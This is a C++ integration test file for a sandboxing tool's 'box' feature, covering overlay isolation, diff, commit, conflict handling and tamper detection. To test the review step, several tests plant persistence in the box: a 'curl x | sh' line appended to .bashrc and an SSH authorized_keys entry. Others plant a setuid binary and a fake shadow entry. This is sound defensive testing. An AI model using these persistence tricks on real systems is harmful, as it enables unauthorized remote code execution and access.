// `airlock box` (docs/BOXES.md): a real box over a host tree, real runs in it; the host never changes,
// the listing names exactly what the box did, discard and rm undo it. Runs as root (integration.root:
// the layers are idmapped, files keep host root as owner) and as uid 65534 (integration.user).
#include <gtest/gtest.h>
#include <signal.h>
#include <sys/wait.h>
#include <sys/stat.h>
#include <unistd.h>

#include <nlohmann/json.hpp>

#include <algorithm>
#include <filesystem>
#include <thread>

#include "box_fixture.h"
#include "test_env.h"

using namespace airlock::test;

namespace {

class Box : public BoxFixture {};

TEST_F(Box, ChangesStayInTheBoxAndTheListingNamesThem) {
  ASSERT_EQ(BoxCmd({"create", "t1", "--over", tree_ + ":/data"}).exit_code, 0);
  const std::string before = Snapshot();
  auto r = BoxCmd({"run", "t1", "--", "/bin/sh", "-c", kScript});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out, "orig\nchanged\n");
  EXPECT_EQ(Snapshot(), before) << "a box run changed the host";

  auto d = BoxCmd({"diff", "t1"});
  ASSERT_EQ(d.exit_code, 0) << d.err;
  EXPECT_EQ(d.out,
            "C /data/a (file, 13 B)\n"
            "A /data/d (dir)\n"
            "R /data/gone (dir)\n"
            "A /data/gone/x (file, 6 B)\n"
            "A /data/new (file, 4 B)\n"
            "D /data/sub/b (file)\n");
  auto j = nlohmann::json::parse(BoxCmd({"diff", "t1", "--json", "/data/sub"}).out, nullptr, false);
  ASSERT_TRUE(j.is_array() && j.size() == 1) << j.dump();
  EXPECT_EQ(j[0].value("kind", ""), "deleted");

  // A second run sees the first one's changes.
  r = BoxCmd({"run", "t1", "--", "/bin/sh", "-c", "cat /data/a /data/new; ls /data/sub | wc -l"});
  EXPECT_EQ(r.out, "orig\nchanged\nnew\n0\n") << r.err;
}

// The control: the same program given the host tree through a plain bind changes the host, so the
// unchanged snapshot above is the box's doing.
TEST_F(Box, ControlTheSameRunOnABindChangesTheHost) {
  const std::string before = Snapshot();
  // (As root the sandbox is an unprivileged host user: open the tree to it, as the box's idmap does.)
  airlock::test::Run({"/bin/chmod", "-R", "a+rwX", tree_});
  auto r = RunAirlock({"--bind", tree_, "/data"}, {"/bin/sh", "-c", kScript});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(Snapshot(), before);
}

TEST_F(Box, DiscardAndRemoveUndoEverything) {
  ASSERT_EQ(BoxCmd({"create", "t2", "--over", tree_ + ":/data"}).exit_code, 0);
  ASSERT_EQ(BoxCmd({"run", "t2", "--", "/bin/sh", "-c", kScript}).exit_code, 0);
  ASSERT_NE(BoxCmd({"diff", "t2"}).out, "");
  // A directory the box made unreadable: root lists it; a user's diff says which one it cannot read.
  ASSERT_EQ(BoxCmd({"run", "t2", "--", "/bin/sh", "-c", "mkdir -p /data/locked/in && chmod 000 /data/locked"}).exit_code, 0);
  auto locked = BoxCmd({"diff", "t2"});
  if (IsRoot()) {
    EXPECT_NE(locked.out.find("A /data/locked (dir)"), std::string::npos) << locked.out << locked.err;
  } else {
    EXPECT_EQ(locked.exit_code, 1);
    EXPECT_NE(locked.err.find("locked"), std::string::npos) << locked.err;
  }
  // Some paths first: the host's version shows again there, and only there.
  auto r = BoxCmd({"discard", "t2", "/data/sub/b", "/data/new", "/data/gone", "/data/nothing"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("/data/nothing: not changed in the box"), std::string::npos) << r.out;
  r = BoxCmd({"diff", "t2", "/data/sub", "/data/new", "/data/gone", "/data/a"});
  EXPECT_EQ(r.out, "C /data/a (file, 13 B)\n") << r.err;
  r = BoxCmd({"run", "t2", "--", "/bin/cat", "/data/sub/b", "/data/gone/c"});
  EXPECT_EQ(r.out, "keep\nc\n") << r.err;
  r = BoxCmd({"discard", "t2", "/elsewhere"});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_NE(r.err.find("not in any of box t2's trees"), std::string::npos) << r.err;
  r = BoxCmd({"discard", "t2", "/data/../etc"});
  EXPECT_EQ(r.exit_code, 1);
  r = BoxCmd({"discard", "t2"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(BoxCmd({"diff", "t2"}).out, "");
  r = BoxCmd({"run", "t2", "--", "/bin/cat", "/data/a", "/data/sub/b"});
  EXPECT_EQ(r.out, "orig\nkeep\n") << r.err;
  ASSERT_EQ(BoxCmd({"run", "t2", "--", "/bin/sh", "-c", "mkdir -p /data/x/y && chmod 000 /data/x"}).exit_code, 0);
  r = BoxCmd({"rm", "t2"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_FALSE(std::filesystem::exists(store_ + "/t2"));
  auto l = BoxCmd({"list"});
  EXPECT_NE(l.out.find("no boxes"), std::string::npos) << l.out;
}

TEST_F(Box, ASecondRunWhileOneRunsIsRefused) {
  ASSERT_EQ(BoxCmd({"create", "t3", "--over", tree_ + ":/data"}).exit_code, 0);
  const std::string marker = dir_ + "/ready";
  pid_t first = SpawnLogged({AirlockBin(), "box", "--store", store_, "run", "t3", "--", "/bin/sh", "-c", "echo ready; sleep 60"}, marker);
  ASSERT_TRUE(WaitForMarker(marker, "ready", 30000)) << ReadFileOrEmpty(marker);
  auto second = BoxCmd({"run", "t3", "--", "/bin/true"});
  EXPECT_EQ(second.exit_code, 1);
  EXPECT_NE(second.err.find("box t3 is in use"), std::string::npos) << second.err;
  auto l = nlohmann::json::parse(BoxCmd({"list", "--json"}).out, nullptr, false);
  ASSERT_TRUE(l.is_array() && l.size() == 1) << l.dump();
  EXPECT_TRUE(l[0].value("in_use", false));
  kill(first, SIGKILL);
  waitpid(first, nullptr, 0);
}

// Root: the layers are idmapped, so a root-owned host tree is writable in the box and what the box
// writes is owned by root on the host; setuid bits the box sets are listed, and nosuid inside.
TEST_F(Box, RootOwnedTreesAreWritableAndKeepTheirOwner) {
  if (!IsRoot()) GTEST_SKIP() << "root callers only (an unprivileged user cannot write another owner's files)";
  ASSERT_EQ(BoxCmd({"create", "t4", "--over", tree_ + ":/data"}).exit_code, 0);
  auto r = BoxCmd({"run", "t4", "--", "/bin/sh", "-c",
                   "echo x > /data/new && cp /bin/id /data/id && chmod 4755 /data/id && stat -c %U /data/a /data/new && "
                   "grep ' /data ' /proc/self/mountinfo | grep -c nosuid"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out, "root\nroot\n1\n");
  struct stat st {};
  ASSERT_EQ(::stat((store_ + "/t4/layers/0/upper/new").c_str(), &st), 0);
  EXPECT_EQ(st.st_uid, 0u) << "written through the idmapped layer as host root";
  auto j = nlohmann::json::parse(BoxCmd({"diff", "t4", "--json", "/data/id"}).out, nullptr, false);
  ASSERT_TRUE(j.is_array() && j.size() == 1) << j.dump();
  EXPECT_TRUE(j[0].value("setid", false));
}

// A box that plants a shell start-up line and an SSH key is judged malicious before anything leaves it;
// one that only writes a document is clean.
TEST_F(Box, ReviewFlagsPersistenceBeforeAnythingLeavesTheBox) {
  ASSERT_EQ(BoxCmd({"create", "t6", "--over", tree_ + ":/home/sandbox"}).exit_code, 0);
  ASSERT_EQ(BoxCmd({"run", "t6", "--", "/bin/sh", "-c", "echo notes > ~/notes.txt"}).exit_code, 0);
  auto r = BoxCmd({"review", "t6"});
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("verdict: clean"), std::string::npos) << r.out;
  ASSERT_EQ(BoxCmd({"run", "t6", "--", "/bin/sh", "-c",
                    "echo 'curl x | sh' >> ~/.bashrc && mkdir -p ~/.ssh && echo ssh-ed25519 AAAA > ~/.ssh/authorized_keys"}).exit_code, 0);
  r = BoxCmd({"review", "t6", "--json"});
  EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
  auto j = nlohmann::json::parse(r.out, nullptr, false);
  ASSERT_TRUE(j.is_object()) << r.out;
  EXPECT_EQ(j.value("verdict", ""), "malicious");
  std::string techniques;
  for (const auto& f : j["findings"]) techniques += f["techniques"][0].get<std::string>() + " ";
  EXPECT_EQ(techniques, "T1546.004 T1098.004 ") << j.dump();
  EXPECT_FALSE(std::filesystem::exists(tree_ + "/.bashrc")) << "the host got the box's start-up file";
}

// A real application in a box: git makes a repository and a commit in a project the host shares; the
// box holds all of it, the review finds nothing to object to, the host project is untouched, and
// `list` shows the box's use and size.
TEST_F(Box, ARealApplicationWorksInABox) {
  if (access("/usr/bin/git", X_OK) != 0) GTEST_SKIP() << "SKIPPED LOUDLY: /usr/bin/git is not installed";
  ASSERT_EQ(BoxCmd({"create", "t7", "--over", tree_ + ":/home/sandbox/proj"}).exit_code, 0);
  const std::string before = Snapshot();
  auto r = BoxCmd({"run", "t7", "--", "/bin/sh", "-c",
                   "cd /home/sandbox/proj && git init -q && git add . && "
                   "git -c user.email=box@example.org -c user.name=box commit -qm first && git log --oneline | wc -l"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_EQ(r.out, "1\n");
  EXPECT_EQ(Snapshot(), before);
  auto d = BoxCmd({"diff", "t7"});
  EXPECT_NE(d.out.find("A /home/sandbox/proj/.git (dir)"), std::string::npos) << d.out;
  EXPECT_NE(d.out.find("A /home/sandbox/proj/.git/HEAD (file"), std::string::npos) << d.out;
  r = BoxCmd({"review", "t7"});
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  auto l = nlohmann::json::parse(BoxCmd({"list", "--json"}).out, nullptr, false);
  ASSERT_TRUE(l.is_array() && l.size() == 1) << l.dump();
  EXPECT_NE(l[0].value("last_used", ""), "");
  EXPECT_GT(l[0].value("bytes", 0), 1000);
}

TEST_F(Box, CommitAppliesTheChangesAndEmptiesTheBox) {
  ASSERT_EQ(BoxCmd({"create", "c1", "--over", tree_ + ":/data"}).exit_code, 0);
  ASSERT_EQ(BoxCmd({"run", "c1", "--", "/bin/sh", "-c", kScript + " && ln -s /etc/passwd /data/link"}).exit_code, 0);
  auto r = BoxCmd({"commit", "c1"});
  ASSERT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("7 path(s) committed"), std::string::npos) << r.out;
  EXPECT_EQ(Snapshot(), "/a = orig\nchanged\n\n/d /\n/gone /\n/gone/x = fresh\n\n/link -> /etc/passwd\n/new = new\n\n/sub /\n");
  EXPECT_EQ(BoxCmd({"diff", "c1"}).out, "");
  r = BoxCmd({"run", "c1", "--", "/bin/cat", "/data/a"});
  EXPECT_EQ(r.out, "orig\nchanged\n");
}

// What the host changed during the box's life is never overwritten without --force; a path the box
// added that the host made meanwhile is a conflict too.
TEST_F(Box, CommitRefusesConflictsUnlessForced) {
  ASSERT_EQ(BoxCmd({"create", "c2", "--over", tree_ + ":/data"}).exit_code, 0);
  ASSERT_EQ(BoxCmd({"run", "c2", "--", "/bin/sh", "-c", "echo box >> /data/a; echo box > /data/new"}).exit_code, 0);
  WriteFile(tree_ + "/a", "host\n");
  WriteFile(tree_ + "/new", "host new\n");
  auto r = BoxCmd({"commit", "c2"});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_NE(r.out.find("/data/a: the host changed it"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("/data/new: "), std::string::npos) << r.out;
  EXPECT_EQ(ReadFileOrEmpty(tree_ + "/a"), "host\n");
  EXPECT_EQ(ReadFileOrEmpty(tree_ + "/new"), "host new\n");
  r = BoxCmd({"commit", "c2", "--force"});
  ASSERT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_EQ(ReadFileOrEmpty(tree_ + "/a"), "orig\nbox\n");
  EXPECT_EQ(ReadFileOrEmpty(tree_ + "/new"), "box\n");
}

// A review that is not clean stops the commit; forced, the setuid bit stays behind.
TEST_F(Box, CommitStopsOnTheReviewAndNeverCarriesSetuid) {
  ASSERT_EQ(BoxCmd({"create", "c3", "--over", tree_ + ":/data"}).exit_code, 0);
  ASSERT_EQ(BoxCmd({"run", "c3", "--", "/bin/sh", "-c", "cp /bin/true /data/t && chmod 4755 /data/t"}).exit_code, 0);
  auto r = BoxCmd({"commit", "c3"});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_NE(r.err.find("the review says malicious"), std::string::npos) << r.err;
  EXPECT_FALSE(std::filesystem::exists(tree_ + "/t"));
  r = BoxCmd({"commit", "c3", "--force"});
  ASSERT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("setuid/setgid bits dropped"), std::string::npos) << r.out;
  struct stat st {};
  ASSERT_EQ(::stat((tree_ + "/t").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07777, 0755u);
}

// A host directory swapped for a symlink to elsewhere after the run: the commit of a path beneath it
// fails, and nothing is written where the symlink points.
TEST_F(Box, CommitNeverFollowsASymlinkOnTheHost) {
  ASSERT_EQ(BoxCmd({"create", "c4", "--over", tree_ + ":/data"}).exit_code, 0);
  ASSERT_EQ(BoxCmd({"run", "c4", "--", "/bin/sh", "-c", "echo planted > /data/sub/x"}).exit_code, 0);
  const std::string outside = dir_ + "/outside";
  std::filesystem::create_directories(outside);
  std::filesystem::rename(tree_ + "/sub", tree_ + "/sub.real");
  std::filesystem::create_directory_symlink(outside, tree_ + "/sub");
  auto r = BoxCmd({"commit", "c4"});
  EXPECT_EQ(r.exit_code, 1) << r.out;
  EXPECT_NE(r.out.find("never followed"), std::string::npos) << r.out;
  EXPECT_FALSE(std::filesystem::exists(outside + "/x"));
  // Forced, the box's directory replaces the host's symlink (the link itself, never its target).
  r = BoxCmd({"commit", "c4", "--force"});
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_FALSE(std::filesystem::exists(outside + "/x"));
  EXPECT_TRUE(std::filesystem::is_directory(std::filesystem::symlink_status(tree_ + "/sub")));
  EXPECT_EQ(ReadFileOrEmpty(tree_ + "/sub/x"), "planted\n");
}

// SIGKILL at any moment of a commit (100 kills: 25 rounds of four, each kill landing at a random
// point of what is left to do): each host file is as before or as after, never torn, and a last
// commit finishes the work.
TEST_F(Box, CommitKilledAtRandomNeverTearsAFile) {
  const std::string old_text(65536, 'o'), new_text(65536 * 2, 'n');
  for (int i = 0; i < 20; ++i) WriteFile(tree_ + "/f" + std::to_string(i), old_text);
  ASSERT_EQ(BoxCmd({"create", "c5", "--over", tree_ + ":/data"}).exit_code, 0);
  std::srand(static_cast<unsigned>(getpid()));
  int kills = 0;
  for (int round = 0; round < 25; ++round) {
    for (int i = 0; i < 20; ++i) WriteFile(tree_ + "/f" + std::to_string(i), old_text);
    ASSERT_EQ(BoxCmd({"discard", "c5"}).exit_code, 0);
    ASSERT_EQ(BoxCmd({"run", "c5", "--", "/bin/sh", "-c", "for i in $(seq 0 19); do head -c 131072 /dev/zero | tr '\\0' n > /data/f$i; done"}).exit_code, 0);
    for (int k = 0; k < 4; ++k, ++kills) {
      pid_t pid = SpawnLogged({AirlockBin(), "box", "--store", store_, "commit", "c5"}, dir_ + "/commit.log");
      usleep(static_cast<useconds_t>(std::rand() % 20000));
      kill(pid, SIGKILL);
      waitpid(pid, nullptr, 0);
      for (int i = 0; i < 20; ++i) {
        const std::string got = ReadFileOrEmpty(tree_ + "/f" + std::to_string(i));
        ASSERT_TRUE(got == old_text || got == new_text) << "kill " << kills << ": f" << i << " torn (" << got.size() << " bytes)";
      }
    }
    auto r = BoxCmd({"commit", "c5"});
    ASSERT_EQ(r.exit_code, 0) << "round " << round << ": " << r.out << r.err;
    for (int i = 0; i < 20; ++i) ASSERT_EQ(ReadFileOrEmpty(tree_ + "/f" + std::to_string(i)), new_text) << "round " << round;
  }
  EXPECT_EQ(kills, 100);
}

TEST_F(Box, BadNamesUnknownBoxesAndTamperedStoresAreRefused) {
  auto r = BoxCmd({"create", "../x", "--over", tree_});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_NE(r.err.find("is not a box name"), std::string::npos) << r.err;
  r = BoxCmd({"diff", "nosuch"});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_NE(r.err.find("no box named nosuch"), std::string::npos) << r.err;
  ASSERT_EQ(BoxCmd({"create", "t5", "--over", tree_ + ":/data"}).exit_code, 0);
  r = BoxCmd({"create", "t5", "--over", tree_ + ":/data"});
  EXPECT_NE(r.err.find("exists already"), std::string::npos) << r.err;
  // A store other users can enter, and an upper layer swapped for a symlink to the host tree.
  ::chmod((store_ + "/t5").c_str(), 0755);
  r = BoxCmd({"run", "t5", "--", "/bin/true"});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_NE(r.err.find("accessible to other users"), std::string::npos) << r.err;
  ::chmod((store_ + "/t5").c_str(), 0700);
  std::filesystem::remove_all(store_ + "/t5/layers/0/upper");
  std::filesystem::create_directory_symlink(tree_, store_ + "/t5/layers/0/upper");
  r = BoxCmd({"run", "t5", "--", "/bin/sh", "-c", "echo pwned > /data/a"});
  EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
  EXPECT_NE(r.err.find("tampered"), std::string::npos) << r.err;
  EXPECT_EQ(ReadFileOrEmpty(tree_ + "/a"), "orig\n");
}

// A real package manager in a box: pip installs a local wheel into the box's home (--user), the
// listing names what it wrote, the review passes it, and after the commit the host's Python imports
// it: the whole keep-what-you-trust cycle with a real application.
TEST_F(Box, ARealPackageInstallIsListedReviewedAndCommitted) {
  if (airlock::test::Run({"/usr/bin/python3", "-c", "import pip"}).exit_code != 0) {
    GTEST_SKIP() << "SKIPPED LOUDLY: Debian's python3-pip is not installed (scripts/install-deps.sh installs it)";
  }
  const std::string wheels = dir_ + "/wheels", whl = "airlockdemo-1.0-py3-none-any.whl";
  std::filesystem::create_directories(wheels);
  // A minimal wheel (PEP 427), made with the standard library.
  auto made = airlock::test::Run({"/usr/bin/python3", "-c",
                   "import zipfile,hashlib,base64,sys\n"
                   "f={'airlockdemo/__init__.py':\"def hello():\\n    return 'hello from a box'\\n\",\n"
                   "   'airlockdemo-1.0.dist-info/METADATA':'Metadata-Version: 2.1\\nName: airlockdemo\\nVersion: 1.0\\n',\n"
                   "   'airlockdemo-1.0.dist-info/WHEEL':'Wheel-Version: 1.0\\nGenerator: t\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n'}\n"
                   "r=[]\n"
                   "with zipfile.ZipFile(sys.argv[1],'w') as z:\n"
                   "  for n,t in f.items():\n"
                   "    z.writestr(n,t); d=base64.urlsafe_b64encode(hashlib.sha256(t.encode()).digest()).rstrip(b'=').decode()\n"
                   "    r.append(n+',sha256='+d+','+str(len(t)))\n"
                   "  r.append('airlockdemo-1.0.dist-info/RECORD,,'); z.writestr('airlockdemo-1.0.dist-info/RECORD','\\n'.join(r)+'\\n')\n",
                   wheels + "/" + whl});
  ASSERT_EQ(made.exit_code, 0) << made.err;
  ASSERT_EQ(BoxCmd({"create", "pip", "--over", tree_ + ":/home/sandbox", "--over", wheels + ":/wheels"}).exit_code, 0);
  const std::string before = Snapshot();
  auto r = BoxCmd({"run", "pip", "--", "/usr/bin/python3", "-m", "pip", "install", "--user", "--break-system-packages", "--no-index",
                   "--no-deps", "--no-cache-dir", "--disable-pip-version-check", "/wheels/" + whl},
                  120);
  ASSERT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_NE(r.out.find("Successfully installed airlockdemo-1.0"), std::string::npos) << r.out;
  EXPECT_EQ(Snapshot(), before) << "pip in the box changed the host";
  const std::string site = "/home/sandbox/.local/lib/python3.11/site-packages";
  auto d = BoxCmd({"diff", "pip"});
  EXPECT_NE(d.out.find("A " + site + "/airlockdemo/__init__.py (file, 43 B)"), std::string::npos) << d.out;
  EXPECT_NE(d.out.find("A " + site + "/airlockdemo-1.0.dist-info/RECORD (file"), std::string::npos) << d.out;
  EXPECT_EQ(d.out.find("/wheels"), std::string::npos) << d.out;
  r = BoxCmd({"review", "pip"});
  EXPECT_EQ(r.exit_code, 0) << r.out << r.err;
  r = BoxCmd({"commit", "pip"});
  ASSERT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_EQ(BoxCmd({"diff", "pip"}).out, "");
  r = airlock::test::Run({"/usr/bin/env", "PYTHONUSERBASE=" + tree_ + "/.local", "/usr/bin/python3", "-c", "import airlockdemo; print(airlockdemo.hello())"});
  EXPECT_EQ(r.out, "hello from a box\n") << r.err;
}

// Files planted straight into the box's upper layer (by anyone who can write the store): a
// setuid/setgid copy of `id` gains nothing inside (the overlay is nosuid), and a planted
// /etc/shadow and the setuid file are judged malicious and never reach the host with their bits.
TEST_F(Box, PlantedSetuidAndShadowGiveNoPrivilegeInsideOrOutside) {
  ASSERT_EQ(BoxCmd({"create", "pl", "--over", tree_ + ":/etc"}).exit_code, 0);
  const std::string upper = store_ + "/pl/layers/0/upper";
  std::filesystem::copy_file("/usr/bin/id", upper + "/suid-id");
  ASSERT_EQ(::chmod((upper + "/suid-id").c_str(), 06755), 0);
  WriteFile(upper + "/shadow", "root:$6$planted$x:19000:0:99999:7:::\n");
  auto plain = BoxCmd({"run", "pl", "--", "/usr/bin/id", "-u"});
  auto suid = BoxCmd({"run", "pl", "--", "/etc/suid-id", "-u"});
  ASSERT_EQ(suid.exit_code, 0) << suid.err;
  EXPECT_EQ(suid.out, plain.out) << "a setuid file of the box changed the user inside";
  auto r = BoxCmd({"review", "pl"});
  EXPECT_EQ(r.exit_code, 1) << r.out;
  EXPECT_NE(r.out.find("/etc/shadow"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("/etc/suid-id"), std::string::npos) << r.out;
  r = BoxCmd({"commit", "pl"});
  EXPECT_EQ(r.exit_code, 1);
  EXPECT_FALSE(std::filesystem::exists(tree_ + "/shadow"));
  r = BoxCmd({"commit", "pl", "--force"});
  ASSERT_EQ(r.exit_code, 0) << r.out << r.err;
  struct stat st {};
  ASSERT_EQ(::stat((tree_ + "/suid-id").c_str(), &st), 0);
  EXPECT_EQ(st.st_mode & 07000, 0u) << "a setuid/setgid bit reached the host";
}

// Names are raw bytes: a newline and invalid UTF-8 in a file name are escaped in the listing (one
// line per change) and committed byte for byte.
TEST_F(Box, OddBytesInNamesAreListedEscapedAndCommittedExactly) {
  ASSERT_EQ(BoxCmd({"create", "odd", "--over", tree_ + ":/data"}).exit_code, 0);
  auto r = BoxCmd({"run", "odd", "--", "/bin/sh", "-c", "printf x > \"/data/$(printf 'n\\nl\\377')\""});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  auto d = BoxCmd({"diff", "odd"});
  EXPECT_EQ(d.out, "A /data/n\\x0al\\xff (file, 1 B)\n");
  r = BoxCmd({"commit", "odd"});
  ASSERT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_EQ(ReadFileOrEmpty(tree_ + "/n\nl\xff"), "x");
}

// A host tree removed after `create`: runs and commits are refused, naming the tree and the fix.
TEST_F(Box, AVanishedHostTreeIsNamedAndNothingStarts) {
  ASSERT_EQ(BoxCmd({"create", "gone", "--over", tree_ + "/sub:/data"}).exit_code, 0);
  ASSERT_EQ(BoxCmd({"run", "gone", "--", "/bin/sh", "-c", "echo x > /data/new"}).exit_code, 0);
  std::filesystem::remove_all(tree_ + "/sub");
  for (const auto& args : std::vector<std::vector<std::string>>{{"run", "gone", "--", "/bin/true"}, {"commit", "gone"}}) {
    auto r = BoxCmd(args);
    EXPECT_EQ(r.exit_code, 1) << args[0];
    EXPECT_NE(r.err.find("its host tree " + tree_ + "/sub (at /data inside) is gone"), std::string::npos) << r.err;
  }
  EXPECT_FALSE(std::filesystem::exists(tree_ + "/sub"));
}

// Faults of the host's file systems, as root (mounts in a private mount namespace): a store on
// ramfs (no user xattrs: no overlay upper layer) is refused at `create`; a full disk during a commit
// fails it with the reason and leaves the host file as it was, with no temporary file behind.
TEST_F(Box, AStoreThatCannotHoldALayerAndAFullDiskAreClearErrors) {
  if (!IsRoot()) GTEST_SKIP() << "mounting ramfs and a small tmpfs needs root (the user variant has no such mounts)";
  const std::string a = AirlockBin(), ram = dir_ + "/ram", small = dir_ + "/small";
  std::filesystem::create_directories(ram);
  std::filesystem::create_directories(small);
  auto r = airlock::test::Run({"/usr/bin/unshare", "-m", "--propagation", "private", "/bin/sh", "-c",
                "mount -t ramfs ramfs " + ram + " && " + a + " box --store " + ram + "/s create r --over " + tree_ + "; echo rc=$?; ls " + ram + "/s"});
  EXPECT_NE(r.out.find("rc=1"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.err.find("without user extended attributes"), std::string::npos) << r.err;
  EXPECT_EQ(r.out.find("\nr\n"), std::string::npos) << "a half-made box was left: " << r.out;

  const std::string box = a + " box --store " + store_ + " ";
  r = airlock::test::Run({"/usr/bin/unshare", "-m", "--propagation", "private", "/bin/sh", "-c",
           "mount -t tmpfs -o size=1m tmpfs " + small + " && echo orig > " + small + "/a && " + box + "create full --over " + small +
               ":/data && " + box + "run full -- /bin/sh -c 'head -c 3000000 /dev/zero > /data/a' && " + box +
               "commit full; echo rc=$?; cat " + small + "/a; ls -A " + small},
          "", 120);
  if (r.err.find("cannot be idmapped") != std::string::npos) GTEST_SKIP() << "SKIPPED LOUDLY: tmpfs cannot be idmapped here: " << r.err;
  EXPECT_NE(r.out.find("rc=1\norig\na\n"), std::string::npos) << r.out << r.err;
  EXPECT_NE(r.err.find("No space left on device"), std::string::npos) << r.err;
}

// Every kind of host change during a box's life is a conflict: a file the box changed, modified on
// the host while the run was going on and after it; a file the box deleted, modified; a file the box
// changed, deleted; a path the box added, made on the host; a file replaced by another with the same
// size, content and mtime (a new inode). None is overwritten; --force applies them all.
TEST_F(Box, ConflictDetectionCatchesEveryKindOfHostChange) {
  for (const char* f : {"during", "after", "deleted-in-box", "deleted-on-host", "same-looking"}) WriteFile(tree_ + "/" + f, "host\n");
  ASSERT_EQ(BoxCmd({"create", "cf", "--over", tree_ + ":/data"}).exit_code, 0);
  const std::string flag = dir_ + "/changed";
  pid_t run = SpawnLogged({AirlockBin(), "box", "--store", store_, "run", "cf", "--", "/bin/sh", "-c",
                           "for f in during after deleted-on-host same-looking; do echo box >> /data/$f; done; rm /data/deleted-in-box; "
                           "echo box > /data/added; sleep 1"},
                          dir_ + "/run.log");
  usleep(500000);  // the box has written (sh's writes take microseconds); the host changes one file now
  WriteFile(tree_ + "/during", "host changed it during the run\n");
  int st = 0;
  ASSERT_EQ(waitpid(run, &st, 0), run);
  ASSERT_TRUE(WIFEXITED(st) && WEXITSTATUS(st) == 0) << ReadFileOrEmpty(dir_ + "/run.log");
  WriteFile(tree_ + "/after", "host changed it after\n");
  WriteFile(tree_ + "/deleted-in-box", "host changed it\n");
  std::filesystem::remove(tree_ + "/deleted-on-host");
  WriteFile(tree_ + "/added", "host made it\n");
  ASSERT_EQ(airlock::test::Run({"/bin/sh", "-c", "cd " + tree_ + " && cp -p same-looking x && mv x same-looking"}).exit_code, 0);
  const std::string before = Snapshot();
  auto r = BoxCmd({"commit", "cf"});
  EXPECT_EQ(r.exit_code, 1) << r.out << r.err;
  for (const char* f : {"during", "after", "deleted-in-box", "deleted-on-host", "same-looking", "added"}) {
    EXPECT_NE(r.out.find(std::string("/data/") + f + ": "), std::string::npos) << f << " not a conflict:\n" << r.out;
  }
  EXPECT_EQ(Snapshot(), before) << "a conflicting commit changed the host";
  r = BoxCmd({"commit", "cf", "--force"});
  ASSERT_EQ(r.exit_code, 0) << r.out << r.err;
  EXPECT_EQ(ReadFileOrEmpty(tree_ + "/during"), "host\nbox\n");
  EXPECT_EQ(ReadFileOrEmpty(tree_ + "/added"), "box\n");
  EXPECT_FALSE(std::filesystem::exists(tree_ + "/deleted-in-box"));
}

// The default trees: your home at the profile's home and /usr, both shown writable inside. As root
// (idmapped) a program changes and deletes Debian's own files in /usr too; as a user it can add at the
// top of /usr but root's files stay read-only. The host's home and /usr never change.
TEST_F(Box, DefaultTreesShowHomeAndUsrWritableInside) {
  const std::string gpl = "/usr/share/common-licenses/GPL-3", apache = "/usr/share/common-licenses/Apache-2.0";
  if (!std::filesystem::exists(gpl) || !std::filesystem::exists(apache)) GTEST_SKIP() << "SKIPPED LOUDLY: base-files' licenses are missing";
  auto r = BoxCmdVia({"/usr/bin/env", "HOME=" + tree_}, AirlockBin(), {"create", "def"});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  EXPECT_NE(r.out.find("/home/sandbox  (host " + tree_ + ")"), std::string::npos) << r.out;
  EXPECT_NE(r.out.find("/usr  (host /usr)"), std::string::npos) << r.out;
  const std::string home_before = Snapshot(), gpl_before = ReadFileOrEmpty(gpl), added = "/usr/airlock-box-test-" + std::to_string(getpid());
  std::string script = "echo new > /home/sandbox/new && echo more >> /home/sandbox/a && rm /home/sandbox/sub/b && echo x > " + added;
  if (IsRoot()) script += " && echo changed >> " + gpl + " && rm " + apache;
  r = BoxCmd({"run", "def", "--", "/bin/sh", "-c", script});
  ASSERT_EQ(r.exit_code, 0) << r.err;
  if (!IsRoot()) {
    r = BoxCmd({"run", "def", "--", "/bin/sh", "-c", "echo changed >> " + gpl});
    EXPECT_NE(r.exit_code, 0) << "a user's box wrote root's file in /usr";
  }
  EXPECT_EQ(Snapshot(), home_before);
  EXPECT_EQ(ReadFileOrEmpty(gpl), gpl_before);
  EXPECT_TRUE(std::filesystem::exists(apache));
  EXPECT_FALSE(std::filesystem::exists(added));
  std::string want = "C /home/sandbox/a (file, 10 B)\nA /home/sandbox/new (file, 4 B)\nD /home/sandbox/sub/b (file)\nA " + added + " (file, 2 B)\n";
  if (IsRoot()) want += "D " + apache + " (file)\nC " + gpl + " (file, " + std::to_string(gpl_before.size() + 8) + " B)\n";
  EXPECT_EQ(BoxCmd({"diff", "def"}).out, want);
}

}  // namespace

